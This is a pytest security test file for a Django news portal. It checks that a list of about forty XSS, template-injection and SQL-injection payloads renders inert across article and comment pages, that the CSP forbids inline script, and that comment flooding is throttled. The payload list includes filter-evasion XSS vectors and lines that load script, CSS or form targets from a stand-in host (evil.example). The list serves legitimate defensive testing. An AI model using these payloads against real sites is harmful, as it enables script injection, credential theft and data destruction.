"""Security: a corpus of XSS and injection payloads in comments, article bodies, titles, summaries
and search terms renders inert on every page that shows them; the strict CSP holds; comment
flooding is throttled and duplicates are refused."""

import html

import pytest
from django.test import override_settings
from django.urls import reverse

from dangjian.testing import HtmlInspector
from portal import services
from portal.models import Article, Comment, CommentState
from portal.tests.helpers import publish

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"/news/media/1/\" onerror=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">点我</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">ent</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">case</a>",
    "<a href=\" javascript:alert(1)\">space</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">m</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=x>",
    "<p style=\"background:url(javascript:alert(1));width:expression(alert(1))\">css</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=\"behavior:url(x.htc)\">b</div>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"http://evil.example/\">",
    "<form action=\"http://evil.example\"><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "\"><script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scri\u200bpt>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7|add:7 }}{% debug %}",
    "' OR '1'='1'; DROP TABLE portal_article; --",
]


class Inspector(HtmlInspector):
    """The shared inspector; pictures on the portal come only from its own media URLs."""

    images = ("/news/media/", "/news/a/")


def assert_inert(response):
    assert response.status_code == 200
    content = response.content.decode()
    inspector = Inspector()
    inspector.feed(content)
    assert inspector.problems == []
    assert "{% debug %}" not in content or "{&#x27;" not in content  # templates never evaluate input
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    return content


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_title_summary_source_and_body_renders_inert(portal, client, payload):
    article = publish(portal, title=f"标题{payload}", body=f"<p>正文</p>{payload}", summary=payload,
                      source=payload[:100], featured=True)
    pages = [article.get_absolute_url(), article.get_absolute_url() + "?print=1",
             reverse("portal:comments", args=[article.pk]), reverse("portal:share", args=[article.pk]),
             reverse("portal:index"), portal.channels["jiceng"].get_absolute_url(),
             reverse("portal:search") + "?q=标题"]
    for url in pages:
        assert_inert(client.get(url))
    assert_inert(portal.client("news_reviewer").get(reverse("portal:edit", args=[article.pk])))
    assert_inert(portal.client("news_reviewer").get(reverse("portal:editor")))
    feed = client.get(reverse("portal:feed")).content.decode()
    assert "<script" not in feed  # the feed's text is XML-escaped


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_body_written_around_the_service_is_still_cleaned_when_shown(portal, client, payload):
    article = publish(portal, title="绕过服务写入的正文")
    Article.objects.filter(pk=article.pk).update(body=payload)
    assert_inert(client.get(article.get_absolute_url()))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_comment_renders_inert_everywhere(portal, client, payload):
    article = publish(portal)
    response = client.post(reverse("portal:comments", args=[article.pk]),
                           {"name": payload[:30], "body": f"评论{payload}\n第二行"}, REMOTE_ADDR="10.0.0.1")
    assert response.status_code == 302
    comment = Comment.objects.get()
    assert_inert(portal.client("news_reviewer").get(reverse("portal:comment_queue")))
    services.comment_approve(actor=portal.users["news_reviewer"], comment=comment)
    for url in (article.get_absolute_url(), reverse("portal:comments", args=[article.pk])):
        content = assert_inert(client.get(url))
        assert "第二行" in content and "<br>第二行" in content  # newlines kept, as <br> of ours


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_as_search_terms_renders_inert(portal, client, payload):
    publish(portal, title="script alert onerror 党建", body=f"<p>{html.escape(payload)}</p>")
    assert_inert(client.get(reverse("portal:search"), {"q": payload}))
    assert_inert(client.get(reverse("portal:search"), {"q": f"党建 {payload}"}))


def test_the_sanitizer_keeps_the_allowed_markup(portal):
    body = ('<h2>小标题</h2><p>段落<strong>加粗</strong><em>强调</em></p><ul><li>一</li></ul>'
            '<blockquote>引用</blockquote><table><tr><td colspan="2">表</td></tr></table>'
            '<a href="https://www.example.cn/">外链</a><a href="/news/">站内</a><img src="/news/media/7/" alt="图">')
    article = publish(portal, body=body)
    for kept in ("<h2>小标题</h2>", "<strong>加粗</strong>", "<em>强调</em>", "<li>一</li>",
                 "<blockquote>引用</blockquote>", '<td colspan="2">表</td>',
                 '<a href="https://www.example.cn/" rel="noopener noreferrer">外链</a>',
                 '<a href="/news/" rel="noopener noreferrer">站内</a>', '<img src="/news/media/7/" alt="图">'):
        assert kept in article.body, kept


def test_titles_and_comments_are_plain_text_without_invisible_characters(portal):
    article = publish(portal, title="  标题\u202e\u200b\x00 <b>粗</b>  ")
    assert article.title == "标题 <b>粗</b>"


# --- flooding --------------------------------------------------------------------------------------

def post(client, article, body, ip="10.0.0.9", name="读者"):
    return client.post(reverse("portal:comments", args=[article.pk]), {"name": name, "body": body},
                       REMOTE_ADDR=ip)


def test_comment_flooding_from_one_address_is_throttled(portal, client):
    article = publish(portal)
    statuses = [post(client, article, f"第{i}条评论").status_code for i in range(6)]
    assert statuses[:3] == [302, 302, 302]
    assert statuses[3:] == [429, 429, 429]
    assert "评论过于频繁" in post(client, article, "又一条").content.decode()
    assert Comment.objects.count() == 3
    assert post(client, article, "换个地址", ip="10.0.0.10").status_code == 302


def test_a_logged_in_user_is_throttled_across_addresses(portal):
    article = publish(portal)
    client = portal.client("member")
    statuses = [post(client, article, f"第{i}条", ip=f"10.0.1.{i}").status_code for i in range(5)]
    assert statuses == [302, 302, 302, 429, 429]


@override_settings(PORTAL_COMMENT_LIMITS=((60, 100), (24 * 3600, 5)))
def test_the_daily_limit_holds_too(portal, client):
    article = publish(portal)
    statuses = [post(client, article, f"第{i}条").status_code for i in range(7)]
    assert statuses == [302] * 5 + [429] * 2


def test_a_duplicate_comment_is_refused(portal, client):
    article = publish(portal)
    assert post(client, article, "同样的话").status_code == 302
    response = post(client, article, "同样的话")
    assert response.status_code == 200 and "请勿重复提交相同的评论" in response.content.decode()
    assert Comment.objects.count() == 1


def test_comments_keep_no_address_in_clear(portal, client):
    article = publish(portal)
    post(client, article, "看看存了什么", ip="203.0.113.77")
    comment = Comment.objects.get()
    assert "203.0.113.77" not in str(comment.__dict__) and len(comment.source_hash) == 64
    assert comment.state == CommentState.PENDING
